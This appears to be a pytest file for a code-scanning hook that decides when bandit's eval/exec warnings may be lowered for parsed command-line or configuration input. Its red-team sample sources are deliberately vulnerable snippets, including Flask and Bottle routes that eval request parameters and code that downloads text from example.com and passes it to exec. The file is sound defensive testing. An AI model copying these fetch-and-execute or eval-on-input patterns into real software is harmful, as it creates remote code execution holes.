"""Tests for hooks/code/parsed_arguments.py: which names hold the command line, parsed."""

from __future__ import annotations

import ast
from pathlib import Path

import pytest

from hooks.code.parsed_arguments import ModuleBindings
from tests.code.helpers import scan_code

# Red-team cases (stop 51): text an attacker controls (a request, a download, a computed default,
# a rebound name, an imported object) reaching eval/exec; each must keep bandit's severity.
HOSTILE_EVAL_SOURCES = {
    "flask_module": (
        "import flask\n"
        "app = flask.Flask(__name__)\n"
        "\n"
        '@app.route("/run")\n'
        "def run():\n"
        '    return str(eval(flask.request.args.get("code")))\n'
    ),
    "streamlit": ('import streamlit as st\nst.text_input("expr", key="expr")\nst.write(eval(st.session_state.expr))\n'),
    "class_setattr": (
        "import requests\n"
        "\n"
        "class State:\n"
        '    code = "1"\n'
        "\n"
        'setattr(State, "code", requests.get("https://example.com/c").text)\n'
        "eval(State.code)\n"
    ),
    "shadow_param": (
        "import argparse\n"
        "\n"
        "def get_args():\n"
        "    p = argparse.ArgumentParser()\n"
        '    p.add_argument("--code")\n'
        "    return p.parse_args()\n"
        "\n"
        "def run(get_args):\n"
        "    args = get_args()\n"
        "    exec(args.code)\n"
    ),
    "rebind": (
        "import argparse\n"
        "import requests\n"
        "\n"
        "def get_args():\n"
        "    p = argparse.ArgumentParser()\n"
        '    p.add_argument("--code")\n'
        "    return p.parse_args()\n"
        "\n"
        'get_args = lambda: requests.get("https://example.com/cfg").json()\n'
        "args = get_args()\n"
        'exec(args["code"])\n'
    ),
    "import_rebind": (
        "import argparse\n"
        "\n"
        "def get_args():\n"
        "    p = argparse.ArgumentParser()\n"
        '    p.add_argument("--code")\n'
        "    return p.parse_args()\n"
        "\n"
        "from remote_config import get_args\n"
        "args = get_args()\n"
        "exec(args.code)\n"
    ),
    "tyro_fn": (
        "import requests\n"
        "import tyro\n"
        "\n"
        "def fetch(url: str) -> str:\n"
        "    return requests.get(url).text\n"
        "\n"
        "code = tyro.cli(fetch)\n"
        "exec(code)\n"
    ),
    "postinit": (
        "from dataclasses import dataclass\n"
        "import pyrallis\n"
        "import requests\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    url: str = "https://example.com/snippet.py"\n'
        '    code: str = ""\n'
        "\n"
        "    def __post_init__(self):\n"
        "        self.code = requests.get(self.url).text\n"
        "\n"
        "cfg = pyrallis.parse(config_class=Cfg)\n"
        "exec(cfg.code)\n"
    ),
    "default": (
        "from dataclasses import dataclass\n"
        "import tyro\n"
        "import requests\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    code: str = requests.get("https://example.com/snippet.py").text\n'
        "\n"
        "cfg = tyro.cli(Cfg)\n"
        "exec(cfg.code)\n"
    ),
    "cfgname": (
        "from dataclasses import dataclass\n"
        "import urllib.request\n"
        "import pyrallis\n"
        "\n"
        'CFG = "config.yaml"\n'
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    expr: str = "1"\n'
        "\n"
        'urllib.request.urlretrieve("https://example.com/config.yaml", CFG)\n'
        "cfg = pyrallis.parse(config_class=Cfg, config_path=CFG)\n"
        "print(eval(cfg.expr))\n"
    ),
    "cfglist": (
        "from dataclasses import dataclass\n"
        "import urllib.request\n"
        "import pyrallis\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    expr: str = "1"\n'
        "\n"
        'urllib.request.urlretrieve("https://example.com/config.yaml", "config.yaml")\n'
        'cfg = pyrallis.parse(config_class=Cfg, args=["--config_path", "config.yaml"])\n'
        "print(eval(cfg.expr))\n"
    ),
    "hf_file": (
        "from dataclasses import dataclass, field\n"
        "from huggingface_hub import hf_hub_download\n"
        "from transformers import HfArgumentParser\n"
        "\n"
        "@dataclass\n"
        "class A:\n"
        '    expr: str = field(default="1")\n'
        "\n"
        'path = hf_hub_download("someone/repo", "train.args")\n'
        "(a,) = HfArgumentParser(A).parse_args_into_dataclasses(args_filename=path)\n"
        "print(eval(a.expr))\n"
    ),
    "hf_args": (
        "from dataclasses import dataclass, field\n"
        "import requests\n"
        "from transformers import HfArgumentParser\n"
        "\n"
        "@dataclass\n"
        "class A:\n"
        '    expr: str = field(default="1")\n'
        "\n"
        'words = requests.get("https://example.com/args").text.split()\n'
        "(a,) = HfArgumentParser(A).parse_args_into_dataclasses(args=words)\n"
        "print(eval(a.expr))\n"
    ),
    "fstring": (
        "from dataclasses import dataclass\n"
        "import urllib.request\n"
        "import pyrallis\n"
        "\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    expr: str = "1"\n'
        "\n"
        'urllib.request.urlretrieve("https://example.com/config.yaml", "config.yaml")\n'
        'cfg = pyrallis.parse(config_class=Cfg, config_path=f"config.yaml")\n'
        'cfg2 = pyrallis.parse(config_class=Cfg, config_path="config" + ".yaml")\n'
        "print(eval(cfg.expr))\n"
        "print(eval(cfg2.expr))\n"
    ),
    "pyrallis_bound": (
        "import requests\n"
        "\n"
        "class pyrallis:\n"
        "    @staticmethod\n"
        "    def parse(config_class=None):\n"
        '        return requests.get("https://example.com/cfg").json()\n'
        "\n"
        "cfg = pyrallis.parse()\n"
        'exec(cfg["code"])\n'
    ),
    "wrap_hostile": (
        "import argparse\n"
        "import requests\n"
        "\n"
        "def get_args():\n"
        "    p = argparse.ArgumentParser()\n"
        '    p.add_argument("--code")\n'
        '    return p.parse_args(requests.get("https://example.com/argv").text.split())\n'
        "\n"
        "args = get_args()\n"
        "exec(args.code)\n"
    ),
    "vars_update": (
        "import requests, tyro\n"
        "from dataclasses import dataclass\n"
        "@dataclass\n"
        "class C:\n"
        '    code: str = ""\n'
        "cfg = tyro.cli(C)\n"
        'vars(cfg).update(requests.get("https://example.com/c").json())\n'
        "exec(cfg.code)\n"
    ),
    "setattr_cfg": (
        "import requests, tyro\n"
        "from dataclasses import dataclass\n"
        "@dataclass\n"
        "class C:\n"
        '    code: str = ""\n'
        "cfg = tyro.cli(C)\n"
        'setattr(cfg, "code", requests.get("https://example.com/c").text)\n'
        "exec(cfg.code)\n"
    ),
    "global_rebind": (
        "import argparse, requests\n"
        "\n"
        "def get_args():\n"
        "    p = argparse.ArgumentParser()\n"
        '    p.add_argument("--code")\n'
        "    return p.parse_args()\n"
        "\n"
        "def use_remote():\n"
        "    global get_args\n"
        '    get_args = lambda: requests.get("https://example.com/c").json()\n'
        "\n"
        "use_remote()\n"
        "args = get_args()\n"
        'exec(args["code"])\n'
    ),
    "local_shadow": (
        "import argparse, requests\n"
        "\n"
        "def get_args():\n"
        "    p = argparse.ArgumentParser()\n"
        '    p.add_argument("--code")\n'
        "    return p.parse_args()\n"
        "\n"
        "def main():\n"
        '    get_args = requests.Session().get("https://example.com/c").json\n'
        "    args = get_args()\n"
        '    exec(args["code"])\n'
    ),
    "classmethod": (
        "import requests\n"
        "\n"
        "class State:\n"
        '    code = "1"\n'
        "\n"
        "    @classmethod\n"
        "    def set(cls, text):\n"
        "        cls.code = text\n"
        "\n"
        'State.set(requests.get("https://example.com/c").text)\n'
        "eval(State.code)\n"
    ),
    "except": (
        "import requests\n"
        "try:\n"
        '    r = requests.get("https://example.com/c")\n'
        "    r.raise_for_status()\n"
        "    raise ValueError(r.text)\n"
        "except ValueError as err:\n"
        "    exec(err.args[0])\n"
    ),
    "from_import": ("from myapp.state import shared\nexec(shared.code)\n"),
    "bottle": (
        'import bottle\n\n@bottle.post("/run")\ndef run():\n    return str(eval(bottle.request.forms.get("expr")))\n'
    ),
    "ret_class": (
        "import requests\n"
        "\n"
        "class State:\n"
        '    code = "1"\n'
        "\n"
        "def get_args():\n"
        "    return State\n"
        "\n"
        'setattr(State, "code", requests.get("https://example.com/c").text)\n'
        "args = get_args()\n"
        "exec(args.code)\n"
    ),
    "import_name": ("from myapp.state import code\nexec(code)\n"),
    "for_list": (
        "from dataclasses import dataclass\n"
        "import urllib.request\n"
        "import pyrallis\n"
        "@dataclass\n"
        "class Cfg:\n"
        '    expr: str = "1"\n'
        'urllib.request.urlretrieve("https://example.com/config.yaml", "config.yaml")\n'
        'for path in ["config.yaml"]:\n'
        "    cfg = pyrallis.parse(config_class=Cfg, config_path=path)\n"
        "    print(eval(cfg.expr))\n"
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_EVAL_SOURCES))
def test_attacker_text_reaching_eval_or_exec_keeps_bandits_severity(tmp_path: Path, case: str) -> None:
    findings = [f for f in scan_code(tmp_path, HOSTILE_EVAL_SOURCES[case]) if f.rule_id in ("B102", "B307")]
    assert findings, case
    assert all(f.severity.value != "low" for f in findings), [(f.line, f.severity.value) for f in findings]


OWN_CONFIG = (
    "import argparse, pyrallis\n"
    "from dataclasses import dataclass, field\n"
    "def get_args():\n"
    "    parser = argparse.ArgumentParser()\n"
    "    return parser.parse_known_args()[0]\n"
    "@dataclass\n"
    "class Config:\n"
    "    expr: str = '1'\n"
    "    sizes: list = field(default_factory=lambda: [0, 1])\n"
    "args = get_args()\n"
    "cfg = pyrallis.parse(config_class=Config, config_path=args.config)\n"
    "value = eval(cfg.expr)\n"
)


def test_a_configuration_parsers_object_of_the_files_own_plain_class_is_the_operators(tmp_path: Path) -> None:
    found = [(f.line, f.severity.value) for f in scan_code(tmp_path, OWN_CONFIG) if f.rule_id == "B307"]
    assert found == [(12, "low")]


@pytest.mark.parametrize(
    ("change", "why"),
    [
        (("class Config:", "class Config(BaseConfig):"), "a base class the file does not show"),
        (("    expr: str = '1'\n", "    expr: str = '1'\n    def __post_init__(self):\n        pass\n"), "a method"),
        (("import argparse, pyrallis", "import argparse\nfrom x import pyrallis"), "not the library"),
        (("config_path=args.config", "config_path='configs/a.yaml'"), "a file the code names"),
        (("value = eval", "setattr(cfg, 'expr', x)\nvalue = eval"), "changed unseen"),
        (("args = get_args()\n", "from helpers import get_args\nargs = get_args()\n"), "an imported wrapper"),
        (("return parser.parse_known_args()[0]", "return parser.parse_known_args(words)[0]"), "other words"),
    ],
)
def test_a_configuration_object_the_file_cannot_vouch_for_keeps_bandits_severity(
    tmp_path: Path, change: tuple[str, str], why: str
) -> None:
    source = OWN_CONFIG.replace(*change)
    assert source != OWN_CONFIG
    severities = [f.severity.value for f in scan_code(tmp_path, source) if f.rule_id == "B307"]
    assert severities and "low" not in severities, why


def bindings(source: str) -> ModuleBindings:
    return ModuleBindings(ast.parse(source))


def test_only_def_is_a_module_level_function_bound_no_other_way() -> None:
    assert bindings("def get_args():\n    return 1\n").only_def("get_args") is not None
    assert bindings("def get_args():\n    return 1\nget_args = other\n").only_def("get_args") is None
    assert bindings("def f():\n    def get_args():\n        return 1\n").only_def("get_args") is None
    assert bindings("def get_args():\n    return 1\nfrom m import *\n").only_def("get_args") is None
    assert bindings("def get_args():\n    return 1\ndef g(get_args):\n    pass\n").only_def("get_args") is None


def test_only_import_is_the_named_modules_import_as_itself() -> None:
    assert bindings("import pyrallis\n").only_import("pyrallis", "pyrallis", None)
    assert not bindings("import other as pyrallis\n").only_import("pyrallis", "pyrallis", None)
    assert not bindings("import pyrallis\npyrallis = x\n").only_import("pyrallis", "pyrallis", None)
    assert bindings("from omegaconf import OmegaConf\n").only_import("OmegaConf", "omegaconf", "OmegaConf")
    assert not bindings("from .omegaconf import OmegaConf\n").only_import("OmegaConf", "omegaconf", "OmegaConf")
    assert not bindings("").only_import("pyrallis", "pyrallis", None)


PLAIN = 'from dataclasses import dataclass\n@dataclass\nclass C:\n    "doc"\n    a: int = 1\n    b: str\n'


def test_plain_config_class_has_constant_defaults_and_no_methods() -> None:
    assert bindings(PLAIN).plain_config_class(ast.Name(id="C"))
    assert bindings(PLAIN + "class D(C):\n    c: int = -2\n").plain_config_class(ast.Name(id="D"))
    assert not bindings(PLAIN.replace("a: int = 1", "a: int = compute()")).plain_config_class(ast.Name(id="C"))
    assert not bindings(PLAIN.replace("@dataclass", "@register")).plain_config_class(ast.Name(id="C"))
    assert not bindings(PLAIN + "C = other\n").plain_config_class(ast.Name(id="C"))
    assert not bindings(PLAIN + "class D(Imported):\n    pass\n").plain_config_class(ast.Name(id="D"))


def test_names_changed_through_setattr_vars_or_dict_are_remembered() -> None:
    found = bindings("setattr(a, 'x', 1)\nvars(b).update(c)\nd.__dict__['x'] = 1\n").changed_unseen
    assert found == {"a", "b", "d"}
